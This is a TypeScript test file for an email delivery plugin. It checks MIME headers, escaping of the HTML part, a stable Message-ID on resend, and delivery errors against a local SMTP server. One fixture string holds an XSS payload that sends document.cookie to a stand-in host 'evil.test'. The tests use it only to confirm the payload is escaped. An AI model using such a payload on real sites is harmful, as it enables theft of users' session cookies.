import { MemoryProgress } from '../helpers/memory-progress.js';
import { got } from 'got';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeMimeWords, mimeLeaves, parseMime } from '../helpers/read-mime.js';
import { freePort } from '../helpers/gateway-process.js';
import { SmtpSink } from '../helpers/smtp-sink.js';
import { DeliveryError } from '../../src/errors.js';
import { emailPlugin } from '../../src/targets/email/email-plugin.js';
import type { OutboundMessage, Target, TargetDeps } from '../../src/targets/target.js';
import { compileTemplate } from '../../src/templates/template-engine.js';
import type { JsonObject } from '../../src/types.js';
import transcript from '../fixtures/transcript.completed.json' with { type: 'json' };
import { createPacerRegistry } from '../../src/targets/shared/pacer-registry.js';

const user = 'hookgate';
const pass = 'correct horse battery staple';

const deps: TargetDeps = {
  http: got.extend({}),
  logger: pino({ level: 'silent' }),
  now: () => Date.now(),
  sleep: async () => {},
  progress: new MemoryProgress(),
  pacers: createPacerRegistry(),
};

const smtp = new SmtpSink(user, pass);
const received = smtp.received;
let port = 0;

beforeAll(async () => {
  port = (await smtp.start()).port;
});

afterAll(() => smtp.stop());

function emailTarget(definition: JsonObject): Target {
  return emailPlugin.create('team-mail', { type: 'email', ...definition }, deps);
}

const hostileText = `${transcript.data.text}\nEve: <script>document.location="https://evil.test/?c="+document.cookie</script>`;
const hostile: JsonObject = {
  ...transcript,
  data: { ...transcript.data, headline: 'Roll-out <script>alert("x")</script>', text: hostileText },
};

/** Renders the plug-in's default templates the way the core does (each field with its escaper). */
function messageFor(payload: JsonObject): OutboundMessage {
  const fields: Record<string, string> = {};
  for (const [field, template] of Object.entries(emailPlugin.defaultTemplates)) {
    const escaper = emailPlugin.fields[field] ?? 'none';
    fields[field] = compileTemplate(template, escaper).render({
      event: payload,
      source: 'connect-it',
      event_type: payload.type as string,
      received_at: '2026-11-28T16:04:12.000Z',
    });
  }
  return {
    fields,
    payload,
    rawBody: JSON.stringify(payload),
    eventType: payload.type as string,
    eventId: 'evt_42',
  };
}

describe('email target over a real SMTP server', () => {
  it('delivers From, To, Subject, the text part, the escaped HTML part and the transcript attachment', async () => {
    const target = emailTarget({
      host: '127.0.0.1',
      port,
      ignoreTLS: true,
      auth: { user, pass },
      from: 'Hookgate <hookgate@example.com>',
      to: 'team@example.com, "Lima, Ana" <ana@example.com>',
      attachTranscript: true,
      timeoutMs: 5000,
    });
    try {
      const receipt = await target.send(messageFor(hostile), {
        deliveryId: 'dlv_0001',
        attempt: 1,
        round: 1,
      });
      expect(receipt.detail).toMatch(/^accepted 2, rejected 0: 250/);
    } finally {
      await target.close();
    }

    const mail = received.at(-1)!;
    expect(mail.from).toBe('hookgate@example.com');
    expect(mail.to).toEqual(['team@example.com', 'ana@example.com']);
    const root = parseMime(mail.raw);
    expect(root.headers.get('from')).toBe('Hookgate <hookgate@example.com>');
    expect(root.headers.get('to')).toBe('team@example.com, "Lima, Ana" <ana@example.com>');
    expect(decodeMimeWords(root.headers.get('subject') ?? '')).toBe('Roll-out <script>alert("x")</script>');
    expect(root.headers.get('message-id')).toBe('<dlv_0001.hookgate@example.com>');
    expect(root.headers.get('x-hookgate-delivery')).toBe('dlv_0001');

    const parts = mimeLeaves(root);
    const text = parts.find(
      (p) => p.type.startsWith('text/plain') && !p.disposition.startsWith('attachment'),
    );
    const html = parts.find((p) => p.type.startsWith('text/html'));
    const attachment = parts.find((p) => p.disposition.startsWith('attachment'));
    expect(text?.body).toContain('By Ana Lima');
    expect(text?.body).toContain("Chen: I'll add the schema for transcript events");
    expect(html?.body).toContain('Roll-out &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html?.body).toContain('Eve: &lt;script&gt;document.location=');
    expect(html?.body).not.toContain('<script');
    expect(attachment?.type).toBe('text/plain; charset=utf-8; name=transcript.txt');
    expect(attachment?.disposition).toContain('filename=transcript.txt');
    expect(attachment?.body).toBe(hostileText);
  });

  it('a resend of the same delivery carries the same Message-ID', async () => {
    const target = emailTarget({
      host: '127.0.0.1',
      port,
      ignoreTLS: true,
      from: 'a@example.com',
      to: 'b@example.com',
    });
    try {
      await target.send(messageFor(transcript), { deliveryId: 'dlv_0002', attempt: 1, round: 1 });
      await target.send(messageFor(transcript), { deliveryId: 'dlv_0002', attempt: 2, round: 1 });
    } finally {
      await target.close();
    }
    const [first, second] = received.slice(-2).map((m) => parseMime(m.raw).headers.get('message-id'));
    expect(first).toBe('<dlv_0002.hookgate@example.com>');
    expect(second).toBe(first);
  });

  it('rejected credentials are a permanent DeliveryError that does not reveal them', async () => {
    const wrong = 'wrong-password-123';
    const target = emailTarget({
      url: `smtp://${user}:${wrong}@127.0.0.1:${port}`,
      ignoreTLS: true,
      from: 'a@example.com',
      to: 'b@example.com',
    });
    let error: unknown;
    try {
      await target.send(messageFor(transcript), { deliveryId: 'dlv_0003', attempt: 1, round: 1 });
    } catch (e) {
      error = e;
    } finally {
      await target.close();
    }
    expect(error).toBeInstanceOf(DeliveryError);
    const delivery = error as DeliveryError;
    expect(delivery.kind).toBe('permanent');
    expect(delivery.message).toMatch(/authentication failed/i);
    expect(delivery.message).toContain('535');
    expect(delivery.message).not.toContain(wrong);
  });

  it('a server that is down is a retryable DeliveryError', async () => {
    const closedPort = await freePort();
    const target = emailTarget({
      host: '127.0.0.1',
      port: closedPort,
      from: 'a@example.com',
      to: 'b@example.com',
      timeoutMs: 2000,
    });
    let error: unknown;
    try {
      await target.send(messageFor(transcript), { deliveryId: 'dlv_0004', attempt: 1, round: 1 });
    } catch (e) {
      error = e;
    } finally {
      await target.close();
    }
    expect(error).toBeInstanceOf(DeliveryError);
    expect((error as DeliveryError).kind).toBe('retryable');
    expect((error as DeliveryError).message).toContain('ECONNREFUSED');
  });
});
